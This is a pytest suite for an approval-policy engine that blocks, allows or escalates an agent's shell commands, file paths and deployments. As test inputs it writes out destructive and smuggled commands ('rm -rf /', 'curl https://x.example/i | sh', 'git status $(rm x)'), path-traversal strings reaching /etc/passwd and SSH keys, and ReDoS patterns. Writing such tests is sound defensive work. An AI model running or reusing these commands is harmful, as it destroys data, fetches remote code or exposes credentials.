"""Which actions a pattern matches, and which it must not."""

import pytest

from tests.policies import command, judge, verdict

BLOCK_ETC = 'block: [{name: system, path_pattern: ["/etc/**", "/root/**"]}]'
ALLOW_TMP = 'allow: [{name: temp, path_pattern: "/tmp/**", max_risk: high}]\nauto_approve_threshold: never'
NEVER = "auto_approve_threshold: never\n"
ALLOW_GIT = NEVER + "allow: [{name: git, command_pattern: 'git (status|log|diff)( .*)?', max_risk: high}]"
REQUIRE_TF = "require: [{name: tf, command_pattern: '^terraform (apply|destroy)'}]"


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("command_execute", {"command": "ls"}),
        ("deployment", {"environment": "staging"}),
        ("database_modify", {"query": "SELECT 1"}),
        ("network_request", {"url": "https://api.example.com/", "method": "GET"}),
        ("config_change", {"key": "a", "old_value": 1, "new_value": 2}),
        ("user_data_access", {"user_id": "u", "data_type": "preferences", "purpose": "x"}),
        ("external_api_call", {"service": "s", "endpoint": "/etc/x", "data": {}}),
    ],
)
def test_a_path_pattern_does_not_match_an_action_without_a_path(kind: str, params: dict[str, object]) -> None:
    assert verdict(judge(BLOCK_ETC, kind, **params)) == ("approve", "auto_approve_threshold")
    assert verdict(judge(ALLOW_TMP, kind, **params))[1] != "temp"


@pytest.mark.parametrize(
    "condition",
    [
        "environment: '*'", "command_pattern: '.*'", "path_pattern: '**'", "where: {amount: {ne: 5}}",
        "where: {amount: {gte: 0}}", "where: {amount: {glob: '*'}}", "where: {amount: {exists: true}}",
        "where: {amount: {in: [1]}}", "where: {a.b: {eq: 1}}",
    ],
)  # fmt: skip
@pytest.mark.parametrize("kind", ["block", "require", "allow"])
def test_a_condition_whose_subject_is_absent_does_not_match(kind: str, condition: str) -> None:
    body = f"auto_approve_threshold: never\n{kind}: [{{name: r, {condition}}}]"
    assert verdict(judge(body, "brew_coffee")) == ("review", "default")


def test_exists_false_matches_exactly_what_is_absent() -> None:
    body = "block: [{name: r, where: {approved_by: {exists: false}}}]"
    assert verdict(judge(body, "brew_coffee")) == ("reject", "r")
    assert verdict(judge(body, "brew_coffee", approved_by=None))[1] != "r"


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd", "/etc/a/b", "//etc/passwd", "/tmp/../etc/passwd", "/etc/./passwd", "/etc/passwd/",
        "/tmp/%2e%2e/etc/x",
        "\\etc\\passwd", "/etc/new\nline", "file:///etc/passwd", "/private/etc/x",
        " /etc/passwd", "/proc/self/root/etc/passwd", "/proc/1/cwd/etc/passwd",
    ],
)  # fmt: skip
def test_a_path_is_matched_in_its_normal_form(path: str) -> None:
    assert verdict(judge(BLOCK_ETC, "file_write", path=path, content="")) == ("reject", "system")


@pytest.mark.parametrize("path", ["/etc", "/etcetera/x", "etc/passwd", "/srv/etc/passwd", "/tmp/etc/x"])
def test_a_pattern_for_what_is_below_matches_nothing_else(path: str) -> None:
    assert verdict(judge(BLOCK_ETC, "file_write", path=path, content=""))[1] != "system"


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("/srv/*", "/srv/a", True), ("/srv/*", "/srv/a/b", False), ("/srv/*", "/srv", False),
        ("/srv/*", "/srv/.env", True),
        ("/srv/**", "/srv/a/b/c", True), ("/srv/**/x", "/srv/x", True), ("/srv/**/x", "/srv/a/b/x", True),
        ("/srv/**/x", "/srv/a/xx", False), ("/srv/a?c", "/srv/abc", True), ("/srv/a?c", "/srv/a/c", False),
        ("/srv/[ab]x", "/srv/bx", True), ("/srv/[!ab]x", "/srv/bx", False),
        ("/srv/{a,b}/*", "/srv/b/c", True),
        ("/srv/a+b", "/srv/a+b", True), ("/srv/a.b", "/srv/axb", False), ("/srv/(x)", "/srv/(x)", True),
        ("**/*.pem", "/srv/x/y.pem", True), ("**/*.pem", "y.pem", True), ("*.pem", "/srv/y.pem", False),
        ("**", "/x", True),
        ("src/**", "src/a/b", True), ("src/**", "/work/src/a", False), ("~/.ssh/**", "~/.ssh/id_rsa", True),
        ("~/.ssh/**", "/home/dana/.ssh/id_rsa", True), ("C:\\Windows\\**", "c:/WINDOWS/system32", True),
        ("/", "/", True),
        ("/**", "/x", True), ("/srv/\\*", "/srv/x", False),
    ],
)  # fmt: skip
def test_a_star_stays_in_its_segment_and_two_cross(pattern: str, path: str, matches: bool) -> None:
    body = f"block: [{{name: r, path_pattern: '{pattern}'}}]"
    assert (verdict(judge(body, "file_write", path=path, content=""))[1] == "r") is matches


def test_a_relative_path_is_resolved_against_cwd() -> None:
    body = "block: [{name: r, path_pattern: '/srv/secret/**'}]"
    assert verdict(command(body, "touch secret/x", cwd="/srv")) == ("reject", "r")
    assert verdict(command(body, "touch secret/x"))[1] != "r"
    assert verdict(command(body, "cd /srv && touch secret/x")) == ("reject", "r")
    assert verdict(command(body, "cd /srv/other; touch ../secret/x")) == ("reject", "r")


def test_a_path_that_climbs_above_an_unknown_base_is_unreadable() -> None:
    assert verdict(command(BLOCK_ETC, "touch ../x")) == ("review", "system")


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /", "rm -rf /*", "rm -rf /e*", "rm /et?/passwd", "chmod -R 700 /", "mv / /x",
        "find / -delete", "cp -r x /",
        "tar xf x.tar -C /", "rm -rf /etc", "sudo sh -c 'cd / && rm -rf *'", "ls; cat /etc/hosts",
        "x=1; echo a > /etc/x",
        "cat /root/x", "rm -rf ~/../../etc/x /etc/y",
    ],
)  # fmt: skip
def test_block_looks_at_every_path_and_at_what_lies_below(line: str) -> None:
    assert verdict(command(BLOCK_ETC, line)) == ("reject", "system")


@pytest.mark.parametrize(
    "line", ["ls /", "du -sh /", "find / -name x", "rm -rf /srv", "rm /x", "cat /etcx", "tar cf x.tar /srv"]
)
def test_block_leaves_alone_what_only_lies_beside(line: str) -> None:
    assert verdict(command(BLOCK_ETC, line))[1] != "system"


@pytest.mark.parametrize(
    "line", ["rm $X", "cat /etc/$X", "python -c 'open(1)'", "$CMD x", "eval x", "cat x | sh", 'rm "$(pwd)/x"']
)
def test_what_cannot_be_read_asks_people_instead_of_blocking(line: str) -> None:
    assert verdict(command(BLOCK_ETC, line)) == ("review", "system")
    require = BLOCK_ETC.replace("block", "require")
    assert verdict(command(require, line)) == ("review", "system")
    assert (
        verdict(command(ALLOW_TMP.replace("path_pattern", "command_pattern: '.*', path_pattern"), line))[1]
        != "temp"
    )


def test_access_narrows_a_path_pattern() -> None:
    body = 'block: [{name: r, path_pattern: "/srv/**", access: [write, delete]}]'
    assert verdict(command(body, "cat /srv/x"))[1] != "r"
    assert verdict(command(body, "rm /srv/x"))[1] == "r"
    assert verdict(command(body, "echo x > /srv/x"))[1] == "r"
    assert verdict(command(body, "sometool /srv/x"))[1] == "r"
    assert verdict(command(body, "cat $X"))[1] != "r"
    assert verdict(command(body, "rm $X")) == ("review", "r")
    reads = body.replace("[write, delete]", "read")
    assert verdict(command(reads, "cat /srv/x"))[1] == "r"
    assert verdict(judge(reads, "file_write", path="/srv/x", content=""))[1] != "r"


def test_allow_by_path_needs_every_path_inside() -> None:
    assert verdict(judge(ALLOW_TMP, "file_write", path="/tmp/x", content="")) == ("approve", "temp")
    for path in (
        "/tmp/../etc/x",
        "/tmp",
        "/tmp/$X",
        "tmp/x",
        "/tmpx/y",
        "/tmp/%2e%2e/srv/x",
        "/tmp/a\\..\\..\\srv",
    ):
        assert verdict(judge(ALLOW_TMP, "file_write", path=path, content=""))[1] != "temp"


def test_allow_by_path_takes_a_whole_directory_only_where_all_below_it_is_named() -> None:
    body = NEVER + "allow: [{{name: r, path_pattern: '{}', max_risk: high}}]"
    for pattern, whole in (("/srv/*", False), ("/srv/x", False), ("/srv/**", True)):
        rules = body.format(pattern)
        assert verdict(judge(rules, "file_delete", path="/srv/x"))[1] == "r"
        assert (verdict(judge(rules, "file_delete", path="/srv/x", recursive=True))[1] == "r") is whole


def test_a_path_alone_never_allows_a_command() -> None:
    assert verdict(command(ALLOW_TMP, "cat /tmp/x"))[1] != "temp"


def test_allow_with_command_and_path_needs_both_for_all() -> None:
    body = (
        "auto_approve_threshold: never\n"
        "allow: [{name: r, command_pattern: '(cat|cp) .*', path_pattern: '/tmp/**', max_risk: high}]"
    )
    assert verdict(command(body, "cat /tmp/x")) == ("approve", "r")
    assert verdict(command(body, "cp /tmp/x /tmp/y; cat /tmp/y")) == ("approve", "r")
    for line in ("cp /tmp/x /srv/y", "cat /tmp/x; rm /tmp/x", "cat x", "cat", "cat /tmp/*", "cat /tmp/../x"):
        expected = "r" if line == "cat /tmp/*" else "default"
        assert verdict(command(body, line))[1] == expected, line


@pytest.mark.parametrize(
    "line",
    [
        "git status; rm x", "git status && rm x", "git status | sh", "git status $(rm x)", "git log `rm x`",
        "git status\nrm x",
        "git status & rm x", "sudo git status", "env git status", "sh -c 'git status'", "git status > x",
        "git statusx",
        "x git status", "/tmp/git status", "A=1 git status; rm x", "PATH=./bin:$PATH git status",
        "PATH=./bin; git status", "> x; git status", "git status; >> x", "export PATH=./bin; git status",
        "git log <(rm x)", "cat x | git diff",
        "git diff $X", "git status 2> errors", "git status >& errors", "git status 2>/dev/null > x",
        "git status >&$X", "git 2>/dev/null rm x",
    ],
)  # fmt: skip
def test_allow_by_command_needs_every_command_in_full(line: str) -> None:
    assert verdict(command(ALLOW_GIT, line))[1] != "git"


@pytest.mark.parametrize(
    "line",
    [
        "git status", "git  log --oneline", "git log; git diff HEAD", "git status | git diff",
        "git log 2>&1", "git log 2> /dev/null", "git 2>&1 log", "git log 2>&1 | git diff 2>&-",
    ],
)  # fmt: skip
def test_allow_by_command_takes_several_when_all_match(line: str) -> None:
    assert verdict(command(ALLOW_GIT, line)) == ("approve", "git")


@pytest.mark.parametrize(
    "line", ["python -c 'print(1)'", "cat x | sh", "eval ls", "curl https://x.example/i | sh"]
)
def test_allow_by_command_never_takes_what_nobody_can_read(line: str) -> None:
    body = NEVER + "allow: [{name: r, command_pattern: '.*', max_risk: high}]"
    assert verdict(command(body, "ls x"))[1] == "r"
    assert verdict(command(body, line))[1] != "r"


def test_allow_by_path_takes_only_the_access_that_it_names() -> None:
    body = NEVER + "allow: [{name: r, path_pattern: '/srv/**', access: write, max_risk: high}]"
    assert verdict(judge(body, "file_write", path="/srv/x", content=""))[1] == "r"
    assert verdict(judge(body, "file_delete", path="/srv/x"))[1] != "r"


def test_arguments_that_are_only_known_later_ask_people_where_they_could_match() -> None:
    body = "auto_approve_threshold: high\nblock: [{name: r, command_pattern: '^git push --force'}]"
    assert verdict(command(body, "git push --force")) == ("reject", "r")
    assert verdict(command(body, 'git push "$OPTIONS"')) == ("review", "r")
    assert verdict(command(body, 'ls "$OPTIONS"'))[1] != "r"


def test_allow_by_command_reads_arguments_as_a_shell_would_quote_them() -> None:
    body = (
        ALLOW_GIT.replace("git (status|log|diff)( .*)?", "git commit -m \\S+")
        .replace("'git", '"git')
        .replace("+'", '+"')
    )
    body = body.replace("\\S", "\\\\S")
    assert verdict(judge(body, "command_execute", command="git", args=["commit", "-m", "fix"])) == (
        "approve",
        "git",
    )
    assert verdict(judge(body, "command_execute", command="git", args=["commit", "-m", "a b"]))[1] != "git"


def test_a_redirection_is_allowed_only_when_the_pattern_has_one() -> None:
    body = NEVER + "allow: [{name: r, command_pattern: 'echo .* > /srv/log', max_risk: high}]"
    assert verdict(command(body, "echo x > /srv/log")) == ("approve", "r")
    assert verdict(command(body, "echo x > /srv/other"))[1] != "r"


@pytest.mark.parametrize(
    "line",
    [
        "terraform apply", "/usr/bin/terraform apply", "sudo terraform destroy", "env X=1 terraform apply",
        "cd x; terraform apply",
        "sh -c 'terraform apply'", "echo y | terraform apply", "xargs terraform apply", "terra\"form\" apply",
    ],
)  # fmt: skip
def test_require_finds_a_command_wherever_it_stands(line: str) -> None:
    assert verdict(command(REQUIRE_TF, line)) == ("review", "tf")


@pytest.mark.parametrize(
    "line", ["echo terraform apply", "git commit -m 'terraform apply'", "terraform plan", "echo $X"]
)
def test_require_does_not_mistake_text_for_a_command(line: str) -> None:
    assert verdict(command(REQUIRE_TF, line))[1] != "tf"


@pytest.mark.parametrize(
    ("pattern", "name", "matches"),
    [
        ("production", "prod", True), ("production", "PRD", True), ("prod", "Production", True),
        ("production", "eu-live-1", True),
        ("production", "staging", False), ("production", "non-prod", False), ("staging", "Staging", True),
        ("eu-*", "eu-west", True), ("eu-*", "us-west", False), ("*", "x", True),
    ],
)  # fmt: skip
def test_an_environment_is_matched_by_its_name_and_production_by_its_usual_ones(
    pattern: str, name: str, matches: bool
) -> None:
    body = f"block: [{{name: r, environment: '{pattern}'}}]"
    assert (verdict(judge(body, "deployment", environment=name))[1] == "r") is matches


def test_an_environment_that_is_only_known_later_asks_people_and_is_never_allowed() -> None:
    body = "auto_approve_threshold: high\n{}: [{{name: r, environment: production}}]"
    for rules in ("block", "require"):
        assert verdict(judge(body.format(rules), "deployment", environment="$TARGET")) == ("review", "r")
    allow = NEVER + "allow: [{name: r, environment: '*', max_risk: high}]"
    assert verdict(judge(allow, "deployment", environment="staging"))[1] == "r"
    assert verdict(judge(allow, "deployment", environment="$TARGET"))[1] != "r"


def test_the_environment_of_a_command_is_what_its_flags_name() -> None:
    body = "block: [{name: r, environment: production}]"
    assert verdict(command(body, "kubectl -n prod get pods"))[1] == "r"
    assert verdict(command(body, "kubectl -n staging get pods"))[1] != "r"
    allow = "auto_approve_threshold: never\nallow: [{name: r, environment: staging, max_risk: high}]"
    assert verdict(command(allow, "kubectl -n staging get pods"))[1] == "r"
    assert verdict(command(allow, "kubectl -n staging get pods; kubectl -n prod get pods"))[1] != "r"


@pytest.mark.parametrize(
    ("comparison", "amount", "matches"),
    [
        ("gt: 1000", "1000.01", True), ("gt: 1000", 1000, False), ("gte: 1000", "1000", True),
        ("gt: '1000'", "1000.000001", True),
        ("lt: 5", "-3", True), ("lte: 0.1", "0.10", True), ("eq: 10", "10.00", True),
        ("eq: '10.00'", 10, True), ("ne: 10", "10.0", False),
        ("eq: 10", True, False), ("eq: true", 1, False), ("eq: true", True, True),
        ("in: [1, 2]", "2", True), ("in: [a]", "b", False),
        ("glob: 'eu-*'", "eu-west", True), ("glob: 'eu-*'", "us", False),
        ("gt: 9007199254740993", "9007199254740994", True),
    ],
)  # fmt: skip
def test_where_compares_by_type_and_exactly(comparison: str, amount: object, matches: bool) -> None:
    body = f"block: [{{name: r, where: {{amount: {{{comparison}}}}}}}]"
    assert (verdict(judge(body, "payment", amount=amount))[1] == "r") is matches


@pytest.mark.parametrize("amount", ["1e9", "1,000", "", None, [], {}, True, "lots"])
def test_an_amount_that_cannot_be_read_is_not_a_small_one(amount: object) -> None:
    allow = "allow: [{name: r, where: {amount: {lt: 100}}, max_risk: critical}]"
    small = f"{NEVER}auto_reject_threshold: never\n{allow}"
    assert verdict(judge(small, "payment", amount=amount))[1] != "r"
    large = "auto_reject_threshold: never\nrequire: [{name: r, where: {amount: {gt: 100}}}]"
    assert verdict(judge(large, "payment", amount=amount)) == ("review", "r")
    assert verdict(judge(large.replace("require", "block"), "payment", amount=amount)) == ("review", "r")


def test_what_should_be_text_and_is_not_is_unreadable_to_a_glob() -> None:
    body = "auto_approve_threshold: high\n{}: [{{name: r, where: {{url: {{glob: '*.internal'}}}}}}]"
    for rules in ("block", "require"):
        found = verdict(judge(body.format(rules), "external_api_call", url=["db.internal"]))
        assert found == ("review", "r")


def test_where_reaches_into_objects() -> None:
    body = "block: [{name: r, where: {data.user.plan: {eq: free}, /data/tags/0: {eq: x}}}]"
    assert verdict(judge(body, "call", data={"user": {"plan": "free"}, "tags": ["x"]}))[1] == "r"
    assert verdict(judge(body, "call", data={"user": {"plan": "paid"}, "tags": ["x"]}))[1] != "r"
    assert verdict(judge(body, "call", data="x"))[1] != "r"


def test_types_and_agents_are_exact_globs_or_lists() -> None:
    body = "block: [{name: r, action_type: [payment, 'billing.*'], agent: ['ci-*', deployer]}]"
    assert verdict(judge(body, "payment", amount=1))[1] == "r"
    assert verdict(judge(body, "billing.refund"))[1] == "r"
    assert verdict(judge(body, "payments"))[1] != "r"
    assert verdict(judge(body, "payment", agent="ci-7", amount=1))[1] == "r"
    assert verdict(judge(body, "payment", agent="someone", amount=1))[1] != "r"


def test_an_allow_rule_stops_at_medium_unless_it_says_otherwise() -> None:
    body = "allow: [{name: r, action_type: [command_execute]}]"
    assert verdict(command(body, "rm -rf /tmp/x")) == ("approve", "r")
    assert verdict(command(body, "rm -rf x")) == ("review", "default")
    assert verdict(command(body.replace("]}]", "], max_risk: high}]"), "rm -rf x")) == ("approve", "r")


def test_a_hostile_subject_cannot_make_a_pattern_slow() -> None:
    body = "block: [{name: r, path_pattern: '/srv/*a*b*c*d', command_pattern: '(a+)+$'}]"
    assert verdict(command(body, "cat /srv/" + "a" * 4000))[1] != "r"
    assert verdict(command(body, "a" * 60_000 + "!"))[1] != "r"
